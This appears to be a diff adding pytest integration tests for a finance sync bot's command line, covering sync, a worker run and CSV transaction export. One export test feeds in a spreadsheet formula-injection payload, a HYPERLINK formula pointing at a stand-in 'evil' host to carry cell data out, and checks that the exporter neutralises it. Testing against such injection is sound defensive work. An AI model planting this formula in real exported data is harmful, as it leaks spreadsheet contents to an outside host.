@@ -1,0 +1,119 @@
+"""The sync bot's command line (a contract): sync, worker and export transactions."""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+import pytest
+from sqlmodel import select
+
+from models import SyncRun
+from services import cli
+from services.container import Container
+from services.db import unit_of_work
+from services.demo_bank import DemoBankHandle
+from services.sync import edit_transaction, sync_item
+from tests.integration.sync_helpers import FAST, ledger, link_item, make_user, truth
+
+CONTRACT = "transaction_id,date,account_id,account_name,name,merchant_name,amount,iso_currency_code,category,pending"
+
+
+@pytest.fixture
+def cli_env(container: Container, demo_bank: DemoBankHandle, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The environment a cron job would have: same database and keys, Plaid pointed at the demo bank."""
+    s = container.settings
+    monkeypatch.setenv("DATABASE_URL", s.effective_database_url)
+    monkeypatch.setenv("FINSYNC_SECRET_KEY", s.secret_key.get_secret_value())  # type: ignore[union-attr]
+    monkeypatch.setenv("FINSYNC_ENCRYPTION_KEYS", s.encryption_keys.get_secret_value())  # type: ignore[union-attr]
+    monkeypatch.setenv("FINSYNC_DATA_DIR", str(s.data_dir))
+    monkeypatch.setenv("PLAID_ENV", "demo")
+    monkeypatch.setenv("PLAID_API_URL", demo_bank.url)
+
+
+def _rows(path: Path) -> list[dict[str, str]]:
+    with path.open(encoding="utf-8", newline="") as fh:
+        return list(csv.DictReader(fh))
+
+
+def test_cli_sync_email_syncs_and_prints_a_line_per_item(cli_env, container, gateway, demo_bank, capsys) -> None:
+    user_id = make_user(container)
+    _, pid1 = link_item(container, gateway, user_id)
+    _, pid2 = link_item(container, gateway, user_id, institution="ins_demo_2")
+    assert cli.main(["sync", "--email", "ada@example.com"]) == 0
+    out = capsys.readouterr().out.strip().splitlines()
+    assert len([line for line in out if ": ok," in line]) == 2 and out[-1] == "2 of 2 connection(s) synced"
+    assert ledger(container, user_id) == {**truth(demo_bank, pid1), **truth(demo_bank, pid2)}
+
+
+def test_cli_sync_all_exits_1_when_an_item_fails(cli_env, container, gateway, capsys) -> None:
+    good, bad = make_user(container), make_user(container, "bob@example.com")
+    link_item(container, gateway, good)
+    link_item(container, gateway, bad, username="user_login_required")
+    assert cli.main(["sync", "--all"]) == 1
+    out = capsys.readouterr().out
+    assert "login required: Your bank needs you to sign in again" in out and "1 of 2 connection(s) synced" in out
+
+
+def test_cli_worker_once_runs_due_jobs(cli_env, container, gateway, demo_bank, capsys) -> None:
+    user_id = make_user(container)
+    _, pid = link_item(container, gateway, user_id)
+    assert cli.main(["worker", "--once"]) == 0
+    assert "ran 1 job(s)" in capsys.readouterr().out
+    assert ledger(container, user_id) == truth(demo_bank, pid)
+    with unit_of_work(container.engine) as s:
+        assert [r.trigger for r in s.exec(select(SyncRun)).all()] == ["schedule"]
+
+
+def test_export_csv_matches_the_ledger_contract(cli_env, container, gateway, demo_bank, tmp_path) -> None:
+    user_id = make_user(container)
+    item_id, pid = link_item(container, gateway, user_id)
+    evil = demo_bank.mutate(
+        pid, "add", cents=1999, name='=HYPERLINK("http://evil/?"&A1,"Refund")', merchant_name="-2+3"
+    )
+    refund = demo_bank.mutate(pid, "add", cents=-4550, name="REFUND", pending=True)
+    sync_item(container, user_id, item_id, gateway=gateway, policy=FAST)
+    edit_transaction(container, user_id, refund["transaction_id"], category="Returns")
+    out = tmp_path / "out" / "tx.csv"
+    assert cli.main(["export", "transactions", "--email", "ada@example.com", "--format", "csv", "--out", str(out)]) == 0
+    raw = out.read_bytes()
+    assert raw.decode("utf-8").startswith(CONTRACT)
+    rows = {r["transaction_id"]: r for r in _rows(out)}
+    bank = {t["transaction_id"]: t for t in demo_bank.truth(pid)}
+    assert set(rows) == set(bank)
+    for tid, t in bank.items():
+        r = rows[tid]
+        assert r["date"] == t["date"] and r["account_id"] == t["account_id"]
+        assert r["amount"] == f"{-t['amount']:.2f}"  # statement sign: Plaid's reversed
+        assert r["pending"] == ("true" if t["pending"] else "false")
+        assert r["iso_currency_code"] == "USD" and r["account_name"]
+    assert (
+        rows[evil["transaction_id"]]["name"].startswith("'=")
+        and rows[evil["transaction_id"]]["merchant_name"] == "'-2+3"
+    )
+    assert rows[evil["transaction_id"]]["amount"] == "-19.99"
+    assert (
+        rows[refund["transaction_id"]]["amount"] == "45.50" and rows[refund["transaction_id"]]["category"] == "Returns"
+    )
+    other = next(t for t in bank.values() if t["transaction_id"] != refund["transaction_id"])
+    assert rows[other["transaction_id"]]["category"] == other["personal_finance_category"]["detailed"]
+
+
+def test_export_date_range_is_inclusive(cli_env, container, gateway, demo_bank, tmp_path) -> None:
+    user_id = make_user(container)
+    item_id, pid = link_item(container, gateway, user_id)
+    sync_item(container, user_id, item_id, gateway=gateway, policy=FAST)
+    dates = sorted({t["date"] for t in demo_bank.truth(pid)})
+    lo, hi = dates[3], dates[10]
+    out = tmp_path / "range.csv"
+    args = ["export", "transactions", "--email", "ada@example.com", "--format", "csv", "--out", str(out)]
+    assert cli.main([*args, "--from", lo, "--to", hi]) == 0
+    got = sorted(r["transaction_id"] for r in _rows(out))
+    assert got == sorted(t["transaction_id"] for t in demo_bank.truth(pid) if lo <= t["date"] <= hi)
+
+
+def test_export_for_an_unknown_email_fails_with_a_message(cli_env, tmp_path, capsys) -> None:
+    args = ["export", "transactions", "--email", "nobody@example.com", "--format", "csv", "--out", str(tmp_path / "x")]
+    assert cli.main(args) == 2
+    assert "No user with the email address" in capsys.readouterr().err
+    assert not (tmp_path / "x").exists()
